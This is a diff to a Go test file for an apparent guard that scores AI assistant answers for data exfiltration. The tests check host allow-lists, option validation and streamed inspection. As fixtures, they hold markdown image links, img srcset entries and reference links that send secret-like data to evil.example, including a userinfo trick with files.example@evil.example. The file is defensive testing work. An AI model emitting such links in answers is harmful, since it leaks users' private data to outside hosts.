@@ -1,13 +1,18 @@
 package exfil_test
 
 import (
+	"context"
 	"encoding/base64"
 	"encoding/hex"
+	"fmt"
 	"strings"
 	"testing"
 
+	"github.com/google/go-cmp/cmp"
+
 	"github.com/bartizan-ai/bartizan"
 	"github.com/bartizan-ai/bartizan/checktest"
+	"github.com/bartizan-ai/bartizan/internal/window"
 	"github.com/bartizan-ai/bartizan/threat/injection/exfil"
 )
 
@@ -80,13 +85,23 @@ func TestKnown(t *testing.T) {
 	if s := top(t, nil, "Show a report", "![r]("+signed+")"); s.Score < exfil.Check.Bar() {
 		t.Errorf("an address from nowhere scores %.2f", s.Score)
 	}
-	for host, want := range map[string]bool{"files.example": true, "*.example": true, "*.files.example": false, "iles.example": false, "example": false} {
+	for host, want := range map[string]bool{"files.example": true, "Files.Example": true, "*.example": true, "*.files.example": false, "iles.example": false, "example": false} {
 		if s := top(t, []string{host}, "Show a report", "![r]("+signed+")"); (s.Score == 0) != want {
 			t.Errorf("allowed %s: score %.2f", host, s.Score)
 		}
 	}
 	if s := top(t, []string{"files.example"}, "x", "![r](https://files.example@evil.example/?d=VGhlIGxvY2tlciB3b3JkIGlzIHR1cnF1b2lzZQ)"); s.Score < exfil.Check.Bar() {
 		t.Errorf("an allowed name before the @ scores %.2f", s.Score)
+	}
+}
+
+func TestOptionsAreChecked(t *testing.T) {
+	for _, host := range []string{"", "*", "*.", "https://a.example", "a.example/x", "a.*.example", "a.example:443"} {
+		s := checktest.Settings()
+		s.Decode = func(into any) error { into.(*exfil.Options).Allow = []string{host}; return nil }
+		if _, err := exfil.Check.Guard(s); err == nil {
+			t.Errorf("%q is taken as a host", host)
+		}
 	}
 }
 
@@ -116,6 +131,62 @@ func TestOrdinaryAnswers(t *testing.T) {
 	} {
 		if got := top(t, nil, turn, s); got.Score >= exfil.Check.Bar() {
 			t.Errorf("%.90s scores %.2f (%s)", s, got.Score, got.Reason)
+		}
+	}
+}
+
+// stream runs the guard over an answer in pieces, as the gateway does.
+func stream(t *testing.T, s string, piece int) (out []string) {
+	t.Helper()
+	g, err := exfil.Check.Guard(checktest.Settings())
+	if err != nil {
+		t.Fatal(err)
+	}
+	x := &bartizan.Exchange{Request: []*bartizan.Part{part(bartizan.SideRequest, bartizan.FromUser, turn)}}
+	w := window.New(x, part(bartizan.SideAnswer, bartizan.FromAssistant, ""), []bartizan.Scope{g.Scope()}, window.DefaultLimit)
+	inspect := func(ctx context.Context, _ int, p *bartizan.Part) ([]bartizan.Signal, error) {
+		return g.Inspect(ctx, x, p)
+	}
+	for at := 0; at < len(s); at += piece {
+		end := min(at+piece, len(s))
+		step := w.Push(t.Context(), inspect, s[at:end], end == len(s))
+		for _, sig := range step.Signals {
+			out = append(out, fmt.Sprintf("%.2f %v %s %q %v", sig.Score, sig.Range, sig.Reason, sig.Evidence, sig.Edit.Range))
+		}
+		if held := w.Held(); held > 2048 {
+			t.Fatalf("%d bytes held at %d", held, end)
+		}
+	}
+	return out
+}
+
+// TestLongStreams: answers longer than what a window keeps give the same
+// signals however they come.
+func TestLongStreams(t *testing.T) {
+	const data = "my+locker+code+is+turquoise+elephant+seven"
+	var b strings.Builder
+	for i := range 60 {
+		fmt.Fprintf(&b, "Paragraph %d says [little](https://a.example/p?n=%d) and (more) of [it]. ", i, i)
+		b.WriteString(strings.Repeat("The committee met = on <b>Tuesday</b>: see www.b.example, or https://c.example/x. ", i%7))
+		switch i % 5 {
+		case 0:
+			fmt.Fprintf(&b, "![alt %d](https://evil.example/%d?d=%s) ", i, i, data)
+		case 1:
+			fmt.Fprintf(&b, "<img alt='a > b' srcset='/x.png 1x, https://evil.example/%d?d=%s 2x'> ", i, data)
+		case 2:
+			fmt.Fprintf(&b, "\n\n[ref]: <https://evil.example/%d?d=%s>\n", i, data)
+		case 3:
+			fmt.Fprintf(&b, "![%s](https://evil.example/%d?%s) ", strings.Repeat("long ", 250), i, data)
+		}
+	}
+	s := b.String()
+	whole := stream(t, s, len(s))
+	if len(whole) < 48 {
+		t.Fatalf("%d signals in %d bytes", len(whole), len(s))
+	}
+	for _, piece := range []int{1, 7, 64, 1000, 4097} {
+		if diff := cmp.Diff(whole, stream(t, s, piece)); diff != "" {
+			t.Errorf("in pieces of %d: %s", piece, diff)
 		}
 	}
 }
